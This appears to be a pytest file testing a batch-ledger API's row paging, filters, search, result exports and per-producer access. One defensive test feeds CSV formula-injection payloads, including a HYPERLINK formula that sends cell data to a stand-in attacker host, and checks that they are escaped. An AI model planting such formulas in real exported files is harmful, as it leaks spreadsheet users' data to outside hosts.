"""Rows and results by the API, as a program sees them: pages, filters, search, files, and whose they are."""

from __future__ import annotations

import csv
import dataclasses
import io
import json

import pyarrow.parquet
import pytest

from jobs.facts import SubmitAccepted, TaskFailed
from jobs.ledger.access.values import Acceptance
from jobs.ledger.reports import row_pages
from jobs.policy.access import Role
from providers.types import Kind
from tests.support import stocked_ledger
from tests.support.access import make
from tests.support.visits import api_client

NOW = stocked_ledger.NOW


@pytest.fixture
def web(ledger_url):
    with api_client(ledger_url) as client:
        yield client


def get(web, asker, path, code=200, **query):
    answer = web.get(f"/api/v1/batches/{path}", headers=asker.header, params=query)
    assert answer.status_code == code, answer.text
    return answer


def pages(web, asker, batch="spring", **query):
    """The keys of all pages, page by page."""
    found, after = [], ""
    while after is not None:
        page = get(web, asker, f"{batch}/rows", after=after, **query).json()
        found.append([row["lf_key"] for row in page["rows"]])
        after = page["next"]
    return found


def keys(web, asker, **query):
    return [key for page in pages(web, asker, **query) for key in page]


def fail(ledger, number=1):
    """The next rows are refused by moderation."""
    for intent in ledger.claims.submits("main", NOW, lease=90, at_most=number).intents:
        each = intent.attempt_id
        accepted = SubmitAccepted(attempt_id=each, at=NOW, task_id=f"t{each}", poll_path=None, next_poll_at=NOW)
        failed = TaskFailed(attempt_id=each, at=NOW, kind=Kind.MODERATION, code="moderation", message="no")
        ledger.facts.record([accepted])
        ledger.facts.record([failed])


def test_rows_come_in_the_manifests_order_page_by_page(web, ledger, viewer):
    stocked_ledger.stock(ledger, stocked_ledger.rows(5))

    assert pages(web, viewer, limit=2) == [["k0", "k1"], ["k2", "k3"], ["k4"]]
    first = get(web, viewer, "spring/rows", limit=1).json()["rows"][0]
    assert (first["Title"], first["lf_status"], first["lf_images"]) == ("Lamp", "ready", 0)


def test_rows_are_found_by_state(web, ledger, viewer):
    stocked_ledger.stock(ledger, stocked_ledger.rows(5))
    stocked_ledger.make(ledger, number=2)

    assert keys(web, viewer, state="done", limit=1) == ["k0", "k1"]
    assert keys(web, viewer, state="ready", limit=2) == ["k2", "k3", "k4"]
    assert keys(web, viewer, state="failed") == []
    get(web, viewer, "spring/rows", code=422, state="finished")


def test_rows_of_a_state_that_many_are_in_are_found_by_looking_at_a_bounded_number_for_each_page(
    web, ledger, viewer, monkeypatch
):
    monkeypatch.setattr(row_pages, "MOST_SORTED", 1)
    monkeypatch.setattr(row_pages, "WINDOW", 2)
    stocked_ledger.stock(ledger, stocked_ledger.rows(6))
    stocked_ledger.make(ledger, number=6)
    ledger.batches.record_manifest(stocked_ledger.new_batch(), stocked_ledger.rows(7), now=NOW)

    assert pages(web, viewer, state="done", limit=9) == [["k0", "k1"], ["k2", "k3"], ["k4", "k5"], []]


def test_rows_are_found_by_their_code(web, ledger, viewer):
    stocked_ledger.stock(ledger, stocked_ledger.rows(3))
    fail(ledger, 2)

    assert keys(web, viewer, error="moderation") == ["k0", "k1"]
    assert keys(web, viewer, error="moderation", state="ready") == []
    assert keys(web, viewer, error="outcome_unknown") == []
    get(web, viewer, "spring/rows", code=422, error="no_such_code")


def test_rows_are_found_by_what_their_key_begins_with(web, ledger, viewer, monkeypatch):
    stocked_ledger.stock(ledger, stocked_ledger.rows(13))
    monkeypatch.setattr(row_pages, "WINDOW", 3)

    assert pages(web, viewer, search="k1", limit=2) == [["k1", "k10"], ["k11", "k12"]]
    assert keys(web, viewer, search="k1", state="done") == []
    assert keys(web, viewer, search="k%") == []
    assert keys(web, viewer, search="\U0010ffff") == []
    get(web, viewer, "spring/rows", code=422, search="\0")


def test_one_row_tells_its_story(web, ledger, viewer):
    stocked_ledger.stock(ledger, [*stocked_ledger.rows(1), dataclasses.replace(stocked_ledger.row(1), key="a/b c")])
    stocked_ledger.make(ledger)

    story = get(web, viewer, "spring/rows/k0").json()

    assert (story["status"], len(story["attempts"])) == ("done", 1)
    assert get(web, viewer, "spring/rows/a%2Fb%20c").json()["key"] == "a/b c"
    get(web, viewer, "spring/rows/k9", code=404)
    get(web, viewer, "spring/rows/%00", code=404)


@pytest.mark.parametrize("after", ["x", "-1", "1" * 30, "٣"])
def test_what_no_page_has_said_is_refused(web, ledger, viewer, after):
    stocked_ledger.stock(ledger, stocked_ledger.rows(1))

    get(web, viewer, "spring/rows", code=422, after=after)


def test_results_are_the_files_that_the_command_writes(web, ledger, viewer):
    stocked_ledger.stock(ledger, stocked_ledger.rows(700))
    stocked_ledger.make(ledger)

    csv = get(web, viewer, "spring/results")
    lines = [json.loads(line) for line in get(web, viewer, "spring/results", format="jsonl").text.splitlines()]
    table = pyarrow.parquet.read_table(io.BytesIO(get(web, viewer, "spring/results", format="parquet").content))

    assert csv.headers["content-type"] == "text/csv; charset=utf-8"
    assert csv.headers["content-disposition"] == 'attachment; filename="spring.csv"'
    assert csv.text.splitlines()[0].startswith("Title,lf_key,lf_status")
    assert len(csv.text.splitlines()) == 701
    assert [line["lf_key"] for line in lines] == [f"k{number}" for number in range(700)]
    assert lines[0]["lf_status"] == "done"
    assert table.column("lf_key").to_pylist() == [line["lf_key"] for line in lines]
    assert (
        get(web, viewer, "spring/results", per="image")
        .text.splitlines()[0]
        .startswith("Title,lf_key,lf_status,lf_index")
    )
    get(web, viewer, "spring/results", code=422, format="xml")


@pytest.mark.parametrize("path", ["rows", "rows/k0", "results"])
def test_a_producer_is_told_of_its_own_batches_alone(web, ledger, path):
    mine, theirs = make(ledger, "mine", Role.PRODUCER), make(ledger, "theirs", Role.PRODUCER)
    ledger.accounts.sync([stocked_ledger.account()])
    ledger.batches.record_manifest(
        stocked_ledger.new_batch(),
        stocked_ledger.rows(1),
        acceptance=Acceptance(token_id=mine.token.id, amount=None),
        now=NOW,
    )

    get(web, mine, f"spring/{path}")
    get(web, theirs, f"spring/{path}", code=404)
    assert web.get(f"/api/v1/batches/spring/{path}").status_code == 401


def test_a_csv_has_nothing_that_a_spreadsheet_takes_for_a_formula_unless_it_is_asked_for_raw(web, ledger, viewer):
    formulas = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "@SUM(A1)", "-2+3", "\t=1"]
    ledger.accounts.sync([stocked_ledger.account()])
    rows = [
        dataclasses.replace(row, carried=json.dumps({"key": row.key, "prompt": formula}).encode())
        for row, formula in zip(stocked_ledger.rows(len(formulas)), formulas, strict=True)
    ]
    new = dataclasses.replace(stocked_ledger.new_batch("spring"), columns=("key", "prompt"))
    ledger.batches.record_manifest(new, rows, now=NOW)

    def prompts(**query):
        text = get(web, viewer, "spring/results", format="csv", **query).text
        return [line["prompt"] for line in csv.DictReader(io.StringIO(text, newline=""))]

    assert prompts() == [f"'{each}" for each in formulas]
    assert prompts(raw="true") == formulas
